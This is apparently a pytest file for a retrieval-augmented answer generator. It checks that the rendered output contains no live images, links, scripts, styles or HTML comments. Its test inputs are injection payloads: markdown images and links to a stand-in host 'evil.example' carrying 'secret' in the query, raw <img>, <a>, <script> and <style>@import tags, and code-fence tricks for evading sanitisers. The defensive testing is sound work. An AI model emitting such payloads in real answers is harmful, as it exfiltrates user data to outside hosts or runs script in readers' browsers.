"""Nothing that an answer says is fetched or run when it is rendered."""

import re

import pytest
from markdown_it import MarkdownIt

from stillroom.rag.analysis.analyzer import Analyzer
from stillroom.rag.generation.cited_sentences import CitationStream
from stillroom.rag.groundedness.score import SourceTexts

EVIL = "http://evil.example/?q=secret"
RENDER = MarkdownIt("commonmark", {"html": True})


class FlatLexicon:
    def idf(self, term):
        return 1.0


def composed(text, **settings):
    composer = CitationStream(
        SourceTexts(["Paris is big."], Analyzer(), FlatLexicon()), 1, **settings
    )
    return composer.feed(text) + composer.finish(), composer.broken


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"[click]({EVIL})",
        f"[1]({EVIL})",
        f"![a][b]\n\n[b]: {EVIL}",
        f"![b]\n\n[b]: {EVIL}",
        f"[1]\n\n[1]: {EVIL}",
        f"[![x]({EVIL})]({EVIL})",
        f"<img src='{EVIL}'>",
        f"<img/src='{EVIL}'>",
        f"<a href='{EVIL}'>x</a>",
        f"<a\nhref='{EVIL}'>x</a>",
        "<script>alert(1)</script>",
        f"<style>@import '{EVIL}'</style>",
        f"` ![x]({EVIL})",
        f"\\` ![x]({EVIL}) `",
        f"- a\n  ```\n  code\n![x]({EVIL})",
        f"    ```\n![x]({EVIL})",
        f"``` a`b\n![x]({EVIL})",
        f"```![x]({EVIL})`",
        f"```\ncode\n```\n![x]({EVIL})",
        f"~~~\n![x]({EVIL})\n~~~\n![x]({EVIL})",
        f"`a`` ![x]({EVIL})",
        f"<!-- hidden\n![x]({EVIL}) -->",
    ],
)
@pytest.mark.parametrize("unsupported", ["mark", "drop"])
def test_no_picture_link_or_tag_is_rendered(text, unsupported):
    for lead in ("", "Paris is big. "):
        out, _ = composed(lead + text, unsupported=unsupported)
        html = RENDER.render(out)
        live = re.sub(r"<pre>.*?</pre>|<code>.*?</code>", "", html, flags=re.DOTALL)
        assert not re.search(r"<(?:img|a|script|style|iframe)\b|<!--", live, re.IGNORECASE), out


@pytest.mark.parametrize(
    "text",
    [
        "Use <div> and </div>, or List<int>, where a < b.",
        f"See {EVIL} for more.",
        "Call rows[i] or f(x), and [note] stays.",
        f"```\nrows[9](x) <img src='y'> ![a]({EVIL})\n```",
        "In `rows[9](x)` and `<img src=y>` nothing is changed.",
        "[1]: Paris is big.",
    ],
)
def test_other_text_stays_as_it_is(text):
    out, broken = composed("So. " + text if text.startswith("[1]") else text, cite=False)
    assert out.endswith(text)
    assert broken == 0


def test_what_was_made_text_is_counted():
    assert composed(f"![x]({EVIL}) and [y]({EVIL})")[1] == 2
